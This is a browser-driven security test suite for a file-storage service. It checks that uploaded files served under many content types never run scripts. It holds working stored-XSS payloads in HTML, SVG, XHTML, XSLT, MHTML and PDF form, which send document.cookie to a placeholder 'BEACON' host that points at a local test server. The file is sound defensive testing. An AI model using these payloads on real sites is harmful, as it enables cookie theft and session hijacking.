import { existsSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { createPresigner } from '@cadiz/sigv4';
import { type Browser, type BrowserContext, chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { series } from '../scripts/series.mjs';
import { isMarked, open } from './opened-page.ts';
import { cleanUp, type Service, type Settings, startService, stopService, testedSettings } from './service.ts';

const executablePath = '/usr/bin/chromium';
const installed = existsSync(executablePath);
if (!installed) console.warn(`LEFT OUT: downloads in a browser, because ${executablePath} is not installed.`);

/** What a script does if it runs: it tells the page around it, marks its window, and calls home with the cookies. */
const script = `globalThis.ran = 1; try { top.postMessage('ran', '*') } catch {}
try { opener.postMessage('ran', '*') } catch {}
new Image().src = '//BEACON/ran?' + encodeURIComponent(document.cookie); fetch('//BEACON/ran', { mode: 'no-cors' });`;
const xhtmlScript = `<script xmlns="http://www.w3.org/1999/xhtml"><![CDATA[${script}]]></script>`;
const html = `<!doctype html><html><body onload="${script.replaceAll('"', '&quot;')}"><script>${script}</script></body></html>`;
const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script><![CDATA[${script}]]></script></svg>`;
const xhtml = `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body>${xhtmlScript}</body></html>`;
const xslt = `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">${xhtml}</xsl:template></xsl:stylesheet>`;
const xml = `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:text/xml,${encodeURIComponent(xslt)}"?><a>${xhtmlScript}</a>`;
const mhtml = `From: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n${html}\r\n--b--\r\n`;
const mixed = `--b\r\nContent-Type: text/html\r\n\r\n${html}\r\n--b--\r\n`;
const pdf = `%PDF-1.4
1 0 obj <</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\("http://BEACON/ran", true\\); this.submitForm\\("http://BEACON/ran"\\);)>>>> endobj
2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj
3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>> endobj
trailer <</Root 1 0 R>>
%%EOF`;

/**
 * What strangers may upload, and as which type. `shown`: the type is safe, so the bytes may be displayed as that type.
 */
const hostile: { name: string; content: string; mimeType: string; shown?: true }[] = [
  { name: 'SVG', content: svg, mimeType: 'image/svg+xml' },
  { name: 'SVG', content: svg, mimeType: 'Image/SVG+XML;charset=utf-8' },
  { name: 'SVG', content: svg, mimeType: 'text/xml' },
  { name: 'SVG', content: svg, mimeType: 'image/png', shown: true },
  { name: 'HTML', content: html, mimeType: 'text/html' },
  { name: 'HTML', content: html, mimeType: 'Text/HTML;charset=utf-8' },
  { name: 'HTML', content: html, mimeType: 'image/png', shown: true },
  { name: 'HTML', content: html, mimeType: 'image/png;x=", text/html;"', shown: true },
  { name: 'HTML', content: html, mimeType: 'text/plain', shown: true },
  { name: 'HTML', content: html, mimeType: 'video/mp4', shown: true },
  { name: 'HTML', content: html, mimeType: 'application/octet-stream' },
  { name: 'HTML', content: html, mimeType: 'application/x-unknown' },
  { name: 'HTML', content: html, mimeType: 'unknown/unknown' },
  { name: 'HTML', content: html, mimeType: 'text/css' },
  { name: 'XHTML', content: xhtml, mimeType: 'application/xhtml+xml' },
  { name: 'XML with XSLT', content: xml, mimeType: 'application/xml' },
  { name: 'XML with XSLT', content: xml, mimeType: 'text/xml' },
  { name: 'XML with XSLT', content: xml, mimeType: 'application/rss+xml' },
  { name: 'JavaScript', content: script, mimeType: 'text/javascript' },
  { name: 'JavaScript', content: script, mimeType: 'application/javascript' },
  { name: 'MHTML', content: mhtml, mimeType: 'multipart/related' },
  { name: 'MHTML', content: mhtml, mimeType: 'message/rfc822' },
  { name: 'parts', content: mixed, mimeType: 'multipart/x-mixed-replace; boundary=b' },
  { name: 'PDF', content: pdf, mimeType: 'application/pdf' },
];

/** The first of each content, and some that are displayed. */
function isInShortForm({ name }: { name: string }, index: number): boolean {
  return index % 4 === 3 || hostile.findIndex((one) => one.name === name) === index;
}

const png = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAIAAAADCAIAAAA2iEnWAAAAFElEQVR4nGP4z8DAAMRAxPAfTAEAGgQD/W0yFzoAAAAASUVORK5CYII=',
  'base64',
);

let settings: Settings;
let service: Service;
let site: Awaited<ReturnType<typeof startSite>>;
let browser: Browser;
let context: BrowserContext;
let cookie: string;
let projectId: string;
const requestsToStore: { url: string; cookie: string | undefined }[] = [];
const storeKeys = { accessKeyId: 'DOWNLOADS', secretAccessKey: 'a-secret-of-the-downloads' };

/** Someone else's pages on the service's host, which embed the given addresses; calls home are counted. */
async function startSite() {
  const calls: string[] = [];
  const sent = new Map<string, { type: string; content: string }>();
  const server = http.createServer((request, response) => {
    const { pathname, searchParams } = new URL(request.url ?? '/', 'http://localhost');
    if (pathname.startsWith('/ran')) calls.push(request.url ?? '');
    const raw = sent.get(pathname);
    if (raw) {
      response.setHeader('Content-Type', raw.type).end(raw.content);
      return;
    }
    const embeds = searchParams.getAll('url').map((address) => {
      const url = address.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
      return `<iframe src="${url}"></iframe><object data="${url}"></object><embed src="${url}"><img src="${url}">`;
    });
    response.setHeader('Content-Type', 'text/html');
    response.end(`<!doctype html><script>onmessage = ({ data }) => { if (data === 'ran') globalThis.ran = 1 }</script>
      ${embeds.join('')}`);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const host = `localhost:${(server.address() as AddressInfo).port}`;
  return { host, calls, sent, close: () => server.close() };
}

async function post(path: string, body: unknown): Promise<Response> {
  const headers = { 'Content-Type': 'application/json', Cookie: cookie ?? '' };
  const response = await fetch(service.url + path, { method: 'POST', headers, body: JSON.stringify(body) });
  if (response.status !== 200) throw new Error(`${path} answered ${response.status}: ${await response.text()}`);
  return response;
}

async function upload(fileName: string, mimeType: string, bytes: Buffer): Promise<string> {
  const facts = { projectId, fileName, mimeType, fileSize: bytes.length, folderId: null };
  const { presignedUrl, storeKey } = (await (await post('/api/storage/presign', facts)).json()) as Record<
    string,
    string
  >;
  const put = await fetch(presignedUrl ?? '', { method: 'PUT', body: bytes });
  if (put.status !== 200) throw new Error(`The PUT answered ${put.status}: ${await put.text()}`);
  return ((await (await post('/api/storage/record', { ...facts, storeKey })).json()) as { id: string }).id;
}

async function urlOf(fileId: string, disposition: 'inline' | 'attachment'): Promise<string> {
  return ((await (await post(`/api/storage/files/${fileId}/url`, { disposition })).json()) as { url: string }).url;
}

/** Whether a script has run in a page, in anything it embeds, or anywhere that could call home. */
async function hasRun(page: Page): Promise<boolean> {
  return (await isMarked(page)) || site.calls.length > 0;
}

async function inNewPage<T>(work: (page: Page) => Promise<T>): Promise<T> {
  site.calls.length = 0;
  const page = await context.newPage();
  try {
    return await work(page);
  } finally {
    await page.close();
  }
}

/** A page that embeds the addresses as frames, objects, plug-ins and pictures. */
const toEmbedding = (...urls: string[]) =>
  `http://${site.host}/?${urls.map((url) => `url=${encodeURIComponent(url)}`).join('&')}`;

const withBeacon = (content: string) => content.replaceAll('BEACON', site.host);

beforeAll(async () => {
  if (!installed) return;
  site = await startSite();
  settings = await testedSettings();
  // The service is on one host and the store on another, as docs/operations.md recommends: cookies ignore ports.
  settings = {
    STORE_ACCESS_KEY_ID: storeKeys.accessKeyId,
    STORE_SECRET_ACCESS_KEY: storeKeys.secretAccessKey,
    CADIZ_PUBLIC_URL: `http://localhost:${settings.PORT}`,
    ...(settings.S3_ENDPOINT ? {} : { S3_PUBLIC_ENDPOINT: `http://127.0.0.1:${settings.STORE_PORT}` }),
    ...settings,
  };
  service = await startService(settings);
  const account = { name: 'Ada', email: 'ada@example.com', password: 'correct horse battery' };
  const signedUp = await post('/api/auth/sign-up/email', account);
  cookie = signedUp.headers
    .getSetCookie()
    .map((line) => line.split(';')[0])
    .join('; ');
  projectId = ((await (await post('/api/projects', { name: 'Downloads' })).json()) as { id: string }).id;

  const args = '--no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking';
  browser = await chromium.launch({
    executablePath,
    headless: true,
    args: [...args.split(' '), '--disable-component-update', '--disable-sync'],
    // Where no locale is set, Chromium saves files under names of ASCII.
    env: { ...process.env, LC_ALL: 'C.UTF-8' },
  });
  context = await browser.newContext();
  const cookies = cookie.split('; ').map((pair) => {
    const [name = '', ...value] = pair.split('=');
    return { name, value: value.join('='), domain: 'localhost', path: '/', sameSite: 'Lax' as const };
  });
  await context.addCookies(cookies);
  context.on('request', async (request) => {
    if (!new URL(request.url()).searchParams.has('X-Amz-Signature')) return;
    const headers = await request.allHeaders().catch(() => ({}) as Record<string, string>);
    requestsToStore.push({ url: request.url(), cookie: headers.cookie });
  });
});

afterAll(async () => {
  if (!installed) return;
  await browser?.close();
  if (service) await stopService(service);
  await cleanUp(settings);
  site.close();
});

const suite = installed ? describe : describe.skip;
const leftOut = installed ? '' : ' (LEFT OUT: Chromium is not installed)';

suite(`downloads in Chromium${leftOut}`, () => {
  test('the test can fail: served as declared, these scripts do run, and read the cookies they can', async () => {
    await context.addCookies([{ name: 'canary', value: 'seen', domain: 'localhost', path: '/' }]);
    for (const [content, type] of [
      [html, 'text/html'],
      [svg, 'image/svg+xml'],
      [xhtml, 'application/xhtml+xml'],
      [xml, 'text/xml'],
    ] as const) {
      site.sent.set('/raw', { type, content: withBeacon(content) });
      for (const url of [`http://${site.host}/raw`, toEmbedding('/raw')]) {
        await inNewPage(async (page) => {
          await open(page, url);
          expect([type, url, await hasRun(page)]).toEqual([type, url, true]);
          expect(site.calls.join()).toContain('canary');
        });
      }
    }
    site.sent.clear();
  });

  test('the browser is signed in', async () => {
    await inNewPage(async (page) => {
      expect((await page.goto(`http://localhost:${settings.PORT}/api/projects`))?.status()).toBe(200);
    });
  });

  test.each(series({ full: hostile, ci: hostile.filter(isInShortForm), short: hostile.filter(isInShortForm) }))(
    '$name recorded as $mimeType runs nothing (checklist 42, T15)',
    async ({ content, mimeType, shown }) => {
      const id = await upload('file', mimeType, Buffer.from(withBeacon(content)));
      const urls = { inline: await urlOf(id, 'inline'), attachment: await urlOf(id, 'attachment') };
      for (const [disposition, url] of Object.entries(urls)) {
        await inNewPage(async (page) => {
          const outcome = await open(page, url);
          expect([disposition, await hasRun(page)]).toEqual([disposition, false]);
          expect([disposition, outcome]).toEqual([disposition, shown && disposition === 'inline' ? 'shown' : 'saved']);
        });
      }
      await inNewPage(async (page) => {
        await open(page, toEmbedding(urls.inline, urls.attachment));
        expect(await hasRun(page)).toBe(false);
      });
    },
  );

  test.skipIf(process.env.TEST_S3_ENDPOINT)(
    'nothing from the embedded store runs, even if an address was signed for a page',
    async () => {
      const id = await upload('page.html', 'text/html', Buffer.from(withBeacon(html)));
      const { pathname, origin } = new URL(await urlOf(id, 'attachment'));
      const [, bucket = '', ...rest] = pathname.split('/');
      const presign = createPresigner({ ...storeKeys, endpoint: origin, region: 'us-east-1' });
      for (const type of ['text/html', 'application/xhtml+xml']) {
        const url = presign({
          method: 'GET',
          bucket,
          key: decodeURIComponent(rest.join('/')),
          expiresInSeconds: 60,
          now: Date.now(),
          query: { 'response-content-type': type },
        });
        for (const address of [url, toEmbedding(url)]) {
          await inNewPage(async (page) => {
            expect(await open(page, address)).toBe('shown');
            expect(await hasRun(page)).toBe(false);
          });
        }
      }
    },
  );

  test('a picture is displayed, opened, embedded and by its plain link', async () => {
    const id = await upload('写真.png', 'image/png', png);
    const url = await urlOf(id, 'inline');
    const link = `http://localhost:${settings.PORT}/api/storage/files/${id}/content?disposition=inline`;
    for (const address of [url, link, toEmbedding(url), toEmbedding(link)]) {
      await inNewPage(async (page) => {
        expect(await open(page, address)).toBe('shown');
        // It is decoded after the page has loaded.
        await expect.poll(() => page.evaluate('document.images[0]?.naturalHeight')).toBe(3);
      });
    }
  });

  test('text is displayed as UTF-8', async () => {
    const url = await urlOf(await upload('a.txt', 'text/plain', Buffer.from('<b>Grüße</b> 写真 👍')), 'inline');
    await inNewPage(async (page) => {
      expect(await open(page, url)).toBe('shown');
      expect(await page.evaluate('document.body.innerText')).toBe('<b>Grüße</b> 写真 👍');
    });
  });

  test('a video is played, opened and embedded', async () => {
    const bytes = await inNewPage(recordVideo);
    const url = await urlOf(await upload('a.webm', 'video/webm;codecs=vp8', bytes), 'inline');
    for (const address of [url, `http://${site.host}/`]) {
      await inNewPage(async (page) => {
        await open(page, address);
        const width = page.evaluate(`(async () => {
          const video = document.querySelector('video') ?? document.createElement('video');
          if (!video.isConnected) video.src = ${JSON.stringify(url)};
          if (video.readyState === 0)
            await new Promise((resolve) => ['loadedmetadata', 'error'].map((end) => video.addEventListener(end, resolve)));
          return video.videoWidth;
        })()`);
        expect([address, await width]).toEqual([address, 64]);
      });
    }
  });

  test('an attachment is saved under its name', async () => {
    for (const name of ['写真 👍 "1" 100%.png', "a;b=c,d'(1)*.png", 'Übersicht.png']) {
      const url = await urlOf(await upload(name, 'image/png', png), 'attachment');
      await inNewPage(async (page) => {
        const download = page.waitForEvent('download');
        await open(page, url);
        // Chromium replaces characters that some systems' file names cannot hold.
        expect((await download).suggestedFilename()).toBe(name.replaceAll(/["*]/g, '_'));
      });
    }
  });

  test('an archive is saved, opened or embedded, even from the origin of the service', async () => {
    const { url } = (await (await post('/api/storage/archives', { projectId, name: '写真' })).json()) as {
      url: string;
    };
    await inNewPage(async (page) => {
      const download = page.waitForEvent('download');
      expect(await open(page, url)).toBe('saved');
      expect((await download).suggestedFilename()).toBe('写真.zip');
      expect(await (await download).failure()).toBeNull();
    });
    await inNewPage(async (page) => {
      await open(page, toEmbedding(url));
      expect(await hasRun(page)).toBe(false);
    });
  });

  test('no cookie went to the store', () => {
    expect(requestsToStore.length).toBeGreaterThan(0);
    expect(requestsToStore.filter((request) => request.cookie !== undefined)).toEqual([]);
  });
});

/** A WebM recorded by the browser itself. */
async function recordVideo(page: Page): Promise<Buffer> {
  await open(page, `http://${site.host}/`);
  const base64 = await page.evaluate<string>(`(async () => {
    const canvas = Object.assign(document.createElement('canvas'), { width: 64, height: 48 });
    const drawing = canvas.getContext('2d');
    const timer = setInterval(() => drawing.fillRect(Math.random() * 64, 0, 9, 48), 20);
    const recorder = new MediaRecorder(canvas.captureStream(25), { mimeType: 'video/webm;codecs=vp8' });
    const chunks = [];
    recorder.ondataavailable = ({ data }) => chunks.push(data);
    const stopped = new Promise((resolve) => recorder.addEventListener('stop', resolve));
    recorder.start();
    await new Promise((resolve) => setTimeout(resolve, 500));
    recorder.stop();
    await stopped;
    clearInterval(timer);
    const bytes = new Uint8Array(await new Blob(chunks).arrayBuffer());
    return btoa(Array.from(bytes, (byte) => String.fromCharCode(byte)).join(''));
  })()`);
  return Buffer.from(base64, 'base64');
}
